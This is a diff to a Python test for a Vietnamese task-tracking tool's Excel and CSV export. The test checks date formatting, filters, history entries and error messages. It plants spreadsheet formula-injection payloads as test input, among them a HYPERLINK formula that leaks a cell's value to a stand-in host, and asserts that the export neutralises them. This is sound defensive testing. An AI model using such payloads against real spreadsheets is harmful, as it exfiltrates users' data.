@@ -236,32 +236,56 @@ def test_demo_tells_the_whole_story(cli: CLI, tmp_path: Path) -> None:
 
 
 def test_export_to_excel_and_csv(cli: CLI, tmp_path: Path) -> None:
+    import datetime as dt
+
     from openpyxl import load_workbook
 
     _setup(cli)
+    attack = '=HYPERLINK("http://x.example/?leak="&B2,"Bấm vào đây")'
     notice = _notice(tmp_path / "tb5.txt", 94,
                      "1. Giao Sở Tài chính rà soát dự toán, hoàn thành trước ngày 25/4/2024.\n"
                      "2. Giao Sở Tư pháp thẩm định dự thảo Quyết định, hoàn thành trong tháng 6/2024.")
-    assert cli("ingest", str(notice), "--assign", "--as", "Lê Thị Thu").code == 0
+    assert cli("ingest", str(notice), "--as", "Lê Thị Thu").code == 0
+    assert cli("review", "2", "--as", "Lê Thị Thu", "--task", attack, "--coordinators", "@SUM(1+1);+cmd").code == 0
+    assert cli("assign", "1", "2", "--as", "Lê Thị Thu").code == 0
     assert cli("sweep", "--now", "2024-04-26T09:00:00+07:00").code == 0
+    assert cli("report", "2", "--as", "Phạm Văn Pháp", "--text", "-1+1 đã thẩm định xong").code == 0
+    assert cli("return", "2", "--as", "Lê Thị Thu", "--reason", "Thiếu ý kiến Sở Tài chính").code == 0
     book_path = tmp_path / "bao-cao.xlsx"
     result = cli("--now", "2024-04-26T09:00:00+07:00", "export", str(book_path))
     assert result.code == 0 and "2 nhiệm vụ" in result.out
     book = load_workbook(book_path)
     assert book.sheetnames == ["Nhiệm vụ", "Thống kê", "Lịch sử"]
-    rows = list(book["Nhiệm vụ"].iter_rows(values_only=True))
+    sheet = book["Nhiệm vụ"]
+    rows = list(sheet.iter_rows(values_only=True))
     header, body = rows[0], rows[1:]
     by_lead = {r[header.index("Chủ trì")]: r for r in body}
     assert by_lead["Sở Tài chính"][header.index("Tình hình thực hiện")] == "Chưa hoàn thành, quá hạn"
     assert by_lead["Sở Tư pháp"][header.index("Tình hình thực hiện")] == "Chưa hoàn thành, trong hạn"
-    assert by_lead["Sở Tài chính"][header.index("Thời hạn")] == "25/04/2024"
-    history = [r[2] for r in book["Lịch sử"].iter_rows(min_row=2, values_only=True)]
-    assert history.count("Assigned") == 2 and "DeadlinePassed" in history
+    assert by_lead["Sở Tài chính"][header.index("Thời hạn")] == dt.datetime(2024, 4, 25)  # a real date …
+    deadline = sheet.cell(row=2, column=header.index("Thời hạn") + 1)
+    assert deadline.is_date and deadline.number_format == "DD/MM/YYYY"  # … shown as the office writes it
+    formulas = [c for row in book.worksheets for line in row.iter_rows() for c in line if c.data_type == "f"]
+    assert formulas == []  # the attack is text: nothing in the workbook is a formula
+    assert by_lead["Sở Tư pháp"][header.index("Nội dung")] == attack
+    assert sheet.auto_filter.ref == "A1:O3" and sheet.column_dimensions["D"].width > 20
+    stats = list(book["Thống kê"].iter_rows(values_only=True))
+    assert stats[-1][:2] == ("Tổng cộng", 2) and book["Thống kê"].auto_filter.ref.endswith(str(len(stats) - 1))
+    history = list(book["Lịch sử"].iter_rows(min_row=2, values_only=True))
+    assert [h[3] for h in history].count("Giao nhiệm vụ") == 2 and "Quá hạn" in [h[3] for h in history]
+    details = {h[3]: h[6] for h in history}
+    assert details["Báo cáo kết quả"] == "Nội dung: -1+1 đã thẩm định xong"
+    assert details["Trả lại báo cáo"] == "Lý do: Thiếu ý kiến Sở Tài chính"
+    assert isinstance(history[0][5], dt.datetime) and history[0][4] == "Lê Thị Thu"
     csv_path = tmp_path / "bao-cao.csv"
     assert cli("export", str(csv_path)).code == 0
-    assert csv_path.read_text(encoding="utf-8-sig").splitlines()[0].startswith("ID,Số thông báo,Mục")
+    text = csv_path.read_text(encoding="utf-8-sig")
+    assert text.splitlines()[0].startswith("ID,Số thông báo,Mục")
+    assert "'=HYPERLINK(" in text and "'@SUM(1+1); +cmd" in text and ",25/04/2024," in text
     refused = cli("export", str(tmp_path / "bao-cao.pdf"))
-    assert refused.code == 1 and ".xlsx or .csv" in refused.err
+    assert refused.code == 1 and ".xlsx hoặc .csv" in refused.err
+    missing = cli("export", "/nonexistent/dir/x.xlsx")
+    assert missing.code == 1 and "thư mục không tồn tại" in missing.err
 
 
 def test_a_typed_deadline_lasts_until_the_end_of_its_day(cli: CLI, tmp_path: Path) -> None:
